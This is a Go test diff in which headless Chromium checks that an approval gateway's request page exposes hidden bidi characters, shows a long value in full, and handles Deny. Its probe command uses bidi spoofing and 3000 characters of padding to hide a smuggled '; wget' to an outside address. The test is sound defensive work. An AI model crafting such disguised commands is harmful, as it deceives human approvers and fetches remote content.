@@ -1,0 +1,86 @@
+package gateway_test
+
+import (
+	"context"
+	"errors"
+	"net"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/metnos/gateway/approvals"
+	"github.com/metnos/gateway/cards"
+	"github.com/metnos/gateway/config"
+)
+
+// TestWebBrowser_RequestPage drives a request's own page, /r/{id}, in
+// headless Chromium: the probe's hidden characters read as escapes under
+// the warning, the whole value is there, and Deny on that page decides
+// and comes back to it.
+func TestWebBrowser_RequestPage(t *testing.T) {
+	chromium := findChromium(t)
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	app := newWebApp(t, func(c *config.Config) { c.Vaglio.JudgeThreshold = 0 })
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	srvCtx, stop := context.WithCancel(ctx)
+	served := make(chan error, 1)
+	go func() { served <- app.Serve(srvCtx, ln) }()
+	t.Cleanup(func() {
+		stop()
+		if err := <-served; err != nil && !errors.Is(err, http.ErrServerClosed) {
+			t.Errorf("Serve: %v", err)
+		}
+	})
+	base := "http://" + ln.Addr().String()
+	tail := strings.Repeat("x", 3000) + "; wget http://203.0.113.9/r"
+	r := apiRequest(t, base, codeExec("cat notes\u202E\u2066hs.txt "+tail))
+
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
+		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true), chromedp.NoFirstRun, chromedp.UserDataDir(t.TempDir()),
+		chromedp.WindowSize(412, 900),
+	)
+	allocCtx, cancelAlloc := chromedp.NewExecAllocator(ctx, opts...)
+	defer cancelAlloc()
+	browser, cancelBrowser := chromedp.NewContext(allocCtx)
+	defer cancelBrowser()
+
+	card := chromedp.CSS("#req-" + r.ID)
+	if err := chromedp.Do(browser, chromedp.Navigate(base+"/r/"+r.ID), chromedp.WaitVisible(card)); err != nil {
+		t.Fatalf("browser: open /r/%s: %v", r.ID, err)
+	}
+	text, err := chromedp.Run(browser, chromedp.Text(card))
+	if err != nil {
+		t.Fatalf("browser: read the card: %v", err)
+	}
+	for _, want := range []string{"cat notes⟦U+202E⟧⟦U+2066⟧hs.txt", tail, cards.WarnEscaped} {
+		if !strings.Contains(text, want) {
+			t.Errorf("the page as Chromium shows it lacks %q", want[:min(len(want), 60)])
+		}
+	}
+	if strings.ContainsAny(text, "\u202E\u2066") {
+		t.Error("a bidi control reached the rendered page")
+	}
+	err = chromedp.Do(browser,
+		chromedp.Click(chromedp.CSS("#req-"+r.ID+` button[value="deny"]`)),
+		chromedp.WaitVisible(chromedp.CSS("#flash")),
+	)
+	if err != nil {
+		t.Fatalf("browser: click Deny: %v", err)
+	}
+	url, err := chromedp.Run(browser, chromedp.Location())
+	if err != nil || !strings.HasSuffix(url, "/r/"+r.ID) {
+		t.Errorf("after Deny the browser is at %q (%v), want the request's page", url, err)
+	}
+	if got := apiGet(t, base, r.ID); got.Status != approvals.StatusDenied {
+		t.Errorf("status %s after Deny in the browser", got.Status)
+	}
+}
